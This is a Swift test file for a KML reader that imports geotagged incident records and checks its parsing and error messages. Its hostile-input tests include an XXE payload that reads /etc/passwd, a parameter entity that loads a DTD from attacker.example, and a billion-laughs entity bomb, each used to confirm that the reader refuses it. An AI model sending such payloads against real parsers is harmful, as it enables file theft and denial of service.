import Foundation
import Testing
@testable import RemnantStore

@Suite struct KMLIncidentReaderTests {
    private func read(_ text: String, file: String = "in.kml") throws(StoreError) -> [RawRecord] {
        try KMLIncidentReader.read(data: Data(text.utf8), file: file)
    }

    /// The error `read` throws, or nil when it succeeds.
    private func error(_ text: String) -> StoreError? {
        error(Data(text.utf8))
    }

    private func error(_ data: Data) -> StoreError? {
        do {
            _ = try KMLIncidentReader.read(data: data, file: "in.kml")
            return nil
        } catch {
            return error
        }
    }

    /// A KML 2.2 document whose Document holds `body`.
    private func kml(_ body: String) -> String {
        """
        <?xml version="1.0" encoding="UTF-8"?>
        <kml xmlns="http://www.opengis.net/kml/2.2">
        <Document>
        \(body)
        </Document>
        </kml>
        """
    }

    // MARK: - Reading

    @Test func readsPlacemarksAtAnyDepthWithBothExtendedDataStyles() throws {
        let text = """
        <?xml version="1.0" encoding="UTF-8"?>
        <kml xmlns="http://www.opengis.net/kml/2.2" xmlns:gx="http://www.google.com/kml/ext/2.2"
             xmlns:atom="http://www.w3.org/2005/Atom">
          <Document>
            <name>Incidents</name>
            <Schema name="incident" id="incident"><SimpleField name="country" type="string"/></Schema>
            <Folder>
              <name>Georgia 2008</name>
              <Placemark id="GE-2008-gori">
                <name>Gori</name>
                <atom:name>not the place</atom:name>
                <description><![CDATA[Central square, <b>12 Aug 2008</b>]]></description>
                <TimeStamp><when>2008-08-12</when></TimeStamp>
                <ExtendedData>
                  <Data name="country"><displayName>Country</displayName><value>GE</value></Data>
                  <Data name="munition"><value>m85</value></Data>
                  <Data name="source1_url"><value>https://example.org/a?x=1&amp;y=2</value></Data>
                </ExtendedData>
                <Point><coordinates>44.1090,41.9842,0</coordinates></Point>
              </Placemark>
              <Folder>
                <Placemark>
                  <name>Ruisi</name>
                  <TimeStamp><when>2008-08</when></TimeStamp>
                  <ExtendedData>
                    <SchemaData schemaUrl="#incident">
                      <SimpleData name="id">GE-2008-ruisi</SimpleData>
                      <SimpleData name="country">GE</SimpleData>
                      <SimpleData name="place">Ruisi village</SimpleData>
                      <SimpleData name="notes">From SchemaData</SimpleData>
                    </SchemaData>
                  </ExtendedData>
                  <MultiGeometry>
                    <Polygon><outerBoundaryIs><LinearRing><coordinates>0,0 1,0 1,1 0,0</coordinates></LinearRing></outerBoundaryIs></Polygon>
                    <Point><coordinates>
                      43.9890 ,  42.0290
                    </coordinates></Point>
                  </MultiGeometry>
                </Placemark>
              </Folder>
            </Folder>
            <Placemark id="attr-id">
              <name>Year only</name>
              <TimeStamp><when>2008</when></TimeStamp>
              <Point><coordinates>44.0,42.0</coordinates></Point>
            </Placemark>
            <Placemark>
              <TimeStamp><when>2008-08-14T09:30:00+04:00</when></TimeStamp>
              <ExtendedData><Data name="date_precision"><value>month</value></Data></ExtendedData>
              <Point><coordinates>-1.5,-2.25</coordinates></Point>
            </Placemark>
          </Document>
        </kml>
        """
        let records = try read(text, file: "georgia.kml")
        #expect(records.count == 4)
        #expect(records.map(\.file) == Array(repeating: "georgia.kml", count: 4))
        #expect(records.map(\.location) == ["placemark 1 (line 9)", "placemark 2 (line 22)", "placemark 3 (line 42)", "placemark 4 (line 47)"])

        #expect(records[0].fields == [
            "id": "GE-2008-gori", "place": "Gori", "notes": "Central square, <b>12 Aug 2008</b>",
            "date": "2008-08-12", "date_precision": "day", "country": "GE", "munition": "m85",
            "source1_url": "https://example.org/a?x=1&y=2", "lon": "44.1090", "lat": "41.9842",
        ])
        #expect(records[1].fields == [
            "id": "GE-2008-ruisi", "country": "GE", "place": "Ruisi village", "notes": "From SchemaData",
            "date": "2008-08", "date_precision": "month", "lon": "43.9890", "lat": "42.0290",
        ])
        #expect(records[2].fields == [
            "id": "attr-id", "place": "Year only", "date": "2008", "date_precision": "year", "lon": "44.0", "lat": "42.0",
        ])
        #expect(records[3].fields == ["date": "2008-08-14", "date_precision": "month", "lon": "-1.5", "lat": "-2.25"])
    }

    @Test func acceptsNoNamespaceAndBOM() throws {
        let text = "<kml><Placemark><Point><coordinates>1,2</coordinates></Point></Placemark></kml>"
        #expect(try read(text).first?.fields == ["lon": "1", "lat": "2"])
        let bom = Data([0xEF, 0xBB, 0xBF]) + Data(text.utf8)
        #expect(try KMLIncidentReader.read(data: bom, file: "bom.kml").first?.fields["lat"] == "2")
    }

    @Test func noPlacemarksIsAnEmptyResult() throws {
        #expect(try read(kml("<Folder><name>empty</name></Folder>")).isEmpty)
    }

    @Test func readsFromURL() throws {
        let url = FileManager.default.temporaryDirectory.appendingPathComponent("remnant-kml-\(UUID().uuidString).kml")
        try Data(kml("<Placemark><Point><coordinates>5,6</coordinates></Point></Placemark>").utf8).write(to: url)
        defer { try? FileManager.default.removeItem(at: url) }
        let records = try KMLIncidentReader.read(url: url, name: "one.kml")
        #expect(records == [RawRecord(file: "one.kml", location: "placemark 1 (line 4)", fields: ["lon": "5", "lat": "6"])])
    }

    @Test func dateAndPrecision() {
        #expect(KMLIncidentReader.dateAndPrecision(of: "2015") ?? ("", "") == ("2015", "year"))
        #expect(KMLIncidentReader.dateAndPrecision(of: " 2015-10 ") ?? ("", "") == ("2015-10", "month"))
        #expect(KMLIncidentReader.dateAndPrecision(of: "2015-10-04") ?? ("", "") == ("2015-10-04", "day"))
        #expect(KMLIncidentReader.dateAndPrecision(of: "2015-10-04T23:59:59Z") ?? ("", "") == ("2015-10-04", "day"))
        #expect(KMLIncidentReader.dateAndPrecision(of: "04/10/2015") == nil)
        #expect(KMLIncidentReader.dateAndPrecision(of: "2015-10-04 12:00") == nil)
    }

    // MARK: - Errors

    @Test func polygonOnlyPlacemarkIsAnErrorNamingIndexAndName() throws {
        let placemarks = (1...3).map { "<Placemark><name>P\($0)</name><Point><coordinates>1,\($0)</coordinates></Point></Placemark>" }
        let polygon = """
        <Placemark>
          <name>Gori</name>
          <Polygon><outerBoundaryIs><LinearRing><coordinates>0,0 1,0 1,1 0,0</coordinates></LinearRing></outerBoundaryIs></Polygon>
        </Placemark>
        """
        let e = try #require(error(kml(placemarks.joined(separator: "\n") + "\n" + polygon)))
        #expect(e == .input(file: "in.kml", location: "placemark 4 (line 7)", field: nil,
                            message: "'Gori': no Point geometry (found Polygon); every incident needs a Point"))
        #expect(e.description == "in.kml:placemark 4 (line 7): 'Gori': no Point geometry (found Polygon); every incident needs a Point")
    }

    @Test func multiGeometryWithTwoPointsIsAnError() throws {
        let text = kml("<Placemark><MultiGeometry><Point><coordinates>1,2</coordinates></Point><Point><coordinates>3,4</coordinates></Point></MultiGeometry></Placemark>")
        #expect(error(text) == .input(file: "in.kml", location: "placemark 1 (line 4)", field: nil,
                                      message: "2 Points; an incident is exactly one Point"))
    }

    @Test(arguments: [
        ("", "empty; expected lon,lat[,alt]"),
        ("44.1", "'44.1' is not lon,lat[,alt]"),
        ("1,2 3,4", "2 positions in a Point; expected one lon,lat[,alt]"),
        ("nan,2", "longitude 'nan' is not a finite decimal number"),
        ("1,inf", "latitude 'inf' is not a finite decimal number"),
        ("1,1e400", "latitude '1e400' is not a finite decimal number"),
        ("0x1p3,2", "longitude '0x1p3' is not a finite decimal number"),
    ])
    func badCoordinates(coordinates: String, message: String) throws {
        let text = kml("<Placemark><Point><coordinates>1,1</coordinates></Point></Placemark>\n<Placemark><Point><coordinates>\(coordinates)</coordinates></Point></Placemark>")
        #expect(error(text) == .input(file: "in.kml", location: "placemark 2 (line 5)", field: "coordinates", message: message))
    }

    @Test func unreadableTimeStampIsAnError() throws {
        let text = kml("<Placemark><TimeStamp><when>12 Aug 2008</when></TimeStamp><Point><coordinates>1,2</coordinates></Point></Placemark>")
        #expect(error(text) == .input(file: "in.kml", location: "placemark 1 (line 4)", field: "date",
                                      message: "TimeStamp <when> '12 Aug 2008' is not YYYY, YYYY-MM, YYYY-MM-DD or an xsd:dateTime"))
    }

    @Test func malformedXMLGivesLineAndColumn() throws {
        let text = """
        <kml xmlns="http://www.opengis.net/kml/2.2">
          <Placemark>
            <name>Gori</nam>
          </Placemark>
        </kml>
        """
        let e = try #require(error(text))
        guard case let .input(file, location, field, message) = e else { Issue.record("unexpected \(e)"); return }
        #expect(file == "in.kml")
        #expect(location.hasPrefix("line 3, column "))
        #expect(field == nil)
        #expect(message == "malformed XML: end tag does not match the start tag (XMLParser error 76)")
    }

    @Test func unclosedDocumentIsMalformed() throws {
        let e = try #require(error("<kml>\n<Document>\n<Placemark>"))
        guard case let .input(_, location, _, message) = e else { Issue.record("unexpected \(e)"); return }
        #expect(location.hasPrefix("line 3"))
        #expect(message.hasPrefix("malformed XML: "))
    }

    @Test func rootMustBeKML() throws {
        #expect(error("<gpx><wpt lat=\"1\" lon=\"2\"/></gpx>") == .unsupportedFormat(
            file: "in.kml", reason: "the root element is <gpx>; expected <kml> (OGC KML 2.2)"))
        #expect(error("<kml xmlns=\"http://example.org/other\"/>") == .unsupportedFormat(
            file: "in.kml", reason: "the root element is <kml> in namespace http://example.org/other; expected <kml> (OGC KML 2.2)"))
        #expect(error(#"{"type": "FeatureCollection"}"#) == .unsupportedFormat(
            file: "in.kml", reason: "not XML: the first character is not '<'; expected <kml> (OGC KML 2.2)"))
    }

    @Test func emptyFile() {
        #expect(error("") == .unsupportedFormat(file: "in.kml", reason: "empty file"))
        #expect(error(" \n\t") == .unsupportedFormat(file: "in.kml", reason: "empty file"))
    }

    @Test func nestedPlacemarkIsAnError() throws {
        let text = kml("<Placemark><name>Outer</name>\n<Placemark/></Placemark>")
        #expect(error(text) == .input(file: "in.kml", location: "placemark 1 (line 4)", field: nil,
                                      message: "contains another Placemark (placemark 2, line 5)"))
    }

    // MARK: - Hostile input

    @Test func externalEntityIsRefusedAndNothingLeaks() throws {
        let text = """
        <?xml version="1.0" encoding="UTF-8"?>
        <!DOCTYPE kml [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
        <kml xmlns="http://www.opengis.net/kml/2.2">
          <Placemark><name>&xxe;</name><description>&xxe;</description>
            <Point><coordinates>1,2</coordinates></Point></Placemark>
        </kml>
        """
        let start = Date()
        var records: [RawRecord] = []
        var thrown: StoreError?
        do { records = try read(text) } catch { thrown = error }
        #expect(thrown == .unsupportedFormat(file: "in.kml", reason: KMLIncidentReader.dtdRefusal))
        #expect(thrown?.description == "in.kml: DTD/entity declarations are not allowed in KML (XXE/entity-expansion protection)")
        #expect(records.isEmpty)
        #expect(!(thrown?.description.contains("root:") ?? true))
        #expect(Date().timeIntervalSince(start) < 1)
    }

    @Test func parameterEntityAndExternalDTDAreRefused() {
        let parameter = """
        <?xml version="1.0"?>
        <!-- a comment first -->
        <!doctype kml [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]>
        <kml/>
        """
        #expect(error(parameter) == .unsupportedFormat(file: "in.kml", reason: KMLIncidentReader.dtdRefusal))
        let external = "<?xml version=\"1.0\"?>\n<!DOCTYPE kml SYSTEM \"file:///etc/passwd\">\n<kml/>"
        #expect(error(external) == .unsupportedFormat(file: "in.kml", reason: KMLIncidentReader.dtdRefusal))
        // A DOCTYPE hidden behind a comment that contains '<' is still found.
        let hidden = "<!-- <a --><!DOCTYPE kml [<!ENTITY x \"y\">]><kml/>"
        #expect(error(hidden) == .unsupportedFormat(file: "in.kml", reason: KMLIncidentReader.dtdRefusal))
    }

    @Test func billionLaughsIsRefusedQuickly() throws {
        var entities = #"<!ENTITY lol "lol">"#
        for level in 2...9 {
            let previous = level == 2 ? "lol" : "lol\(level - 1)"
            entities += "<!ENTITY lol\(level) \"" + String(repeating: "&\(previous);", count: 10) + "\">"
        }
        let text = """
        <?xml version="1.0"?>
        <!DOCTYPE kml [\(entities)]>
        <kml><Placemark><name>&lol9;</name><Point><coordinates>1,2</coordinates></Point></Placemark></kml>
        """
        let start = Date()
        #expect(error(text) == .unsupportedFormat(file: "in.kml", reason: KMLIncidentReader.dtdRefusal))
        #expect(Date().timeIntervalSince(start) < 1)
    }

    @Test func doctypeTextInsideCDATAIsAllowed() throws {
        let text = kml("<Placemark><description><![CDATA[<!DOCTYPE html><p>report</p>]]></description><Point><coordinates>1,2</coordinates></Point></Placemark>")
        #expect(try read(text).first?.fields["notes"] == "<!DOCTYPE html><p>report</p>")
    }

    @Test func nulBytesAreACleanError() throws {
        var data = Data(kml("<Placemark><name>x</name></Placemark>").utf8)
        let name = try #require(data.firstRange(of: Data("<name>x".utf8)))
        data[name.upperBound - 1] = 0
        #expect(error(data) == .input(file: "in.kml", location: "line 4, column 18", field: nil, message: "NUL byte; is this a binary file?"))
    }

    @Test func utf16AndKMZAreRefused() throws {
        let utf16 = Data([0xFF, 0xFE]) + (try #require("<kml/>".data(using: .utf16LittleEndian)))
        #expect(error(utf16) == .unsupportedFormat(file: "in.kml", reason: "UTF-16/UTF-32 text is not supported; save the KML as UTF-8"))
        let kmz = Data([0x50, 0x4B, 0x03, 0x04, 0x14, 0x00])
        #expect(error(kmz) == .unsupportedFormat(
            file: "in.kml", reason: "this is a KMZ (zip) archive, not KML text; extract its doc.kml and import that"))
    }

    /// libxml2 crashed (a null dereference in xmlSwitchToEncoding) on a declared encoding it
    /// switches to and then a byte it cannot convert; found by Fuzz/FuzzKMLImport. Only UTF-8
    /// (and its subset US-ASCII) may be declared.
    @Test(arguments: ["UTF-7", "windows-1252", "ISO-2022-JP", "EBCDIC-US", "ISO-8859-1"])
    func nonUTF8DeclaredEncodingIsRefused(_ encoding: String) {
        let text = "<?xml version=\"1.0\" encoding='\(encoding)' ?>\n<kml><Document><Placemark><name>N</name><Pl\u{8D}/></Placemark></Document></kml>"
        #expect(error(text) == .unsupportedFormat(
            file: "in.kml", reason: "the XML declaration names encoding '\(encoding)'; Remnant reads KML as UTF-8 only: save the file as UTF-8"))
    }

    @Test func utf8AndASCIIDeclarationsAreRead() throws {
        for declaration in [#"<?xml version="1.0" encoding="utf-8"?>"#, #"<?xml version="1.0" encoding = "US-ASCII"?>"#, #"<?xml version="1.0"?>"#] {
            #expect(try read(declaration + "\n<kml><Placemark><Point><coordinates>1,2</coordinates></Point></Placemark></kml>").count == 1)
        }
        #expect(KMLIncidentReader.declaredEncoding(Array(#"  <?xml version='1.0' encoding='UTF-7'?>"#.utf8), from: 2) == "UTF-7")
        #expect(KMLIncidentReader.declaredEncoding(Array("<kml encoding='UTF-7'/>".utf8), from: 0) == nil)
    }

    /// FoundationXML called strlen on the missing data of `<?name?>` (a null pointer); found by
    /// Fuzz/FuzzKMLImport. Processing instructions with data, and `<?x?>` inside comments and
    /// CDATA, are still read.
    @Test func processingInstructionWithoutDataIsRefused() throws {
        #expect(error("<?xmxmll?>") == .unsupportedFormat(
            file: "in.kml", reason: "a processing instruction without data (<?xmxmll?>) cannot be read; remove it"))
        #expect(error(kml("<?pi?>")) == .unsupportedFormat(
            file: "in.kml", reason: "a processing instruction without data (<?pi?>) cannot be read; remove it"))
        let placemark = "<Placemark><description><![CDATA[<?x?>]]></description><Point><coordinates>1,2</coordinates></Point></Placemark>"
        #expect(try read(kml("<?pi some data?><!-- <?x?> -->" + placemark)).count == 1)
    }

    @Test func deepNestingDoesNotCrash() throws {
        let depth = 100_000
        let text = "<kml>" + String(repeating: "<Folder>", count: depth) + String(repeating: "</Folder>", count: depth) + "</kml>"
        do {
            #expect(try read(text).isEmpty)
        } catch {
            // libxml2 builds with a depth limit report it as malformed XML; either outcome is clean.
            guard case let .input(_, _, _, message) = error else { Issue.record("unexpected \(error)"); return }
            #expect(message.hasPrefix("malformed XML"))
        }
    }
}
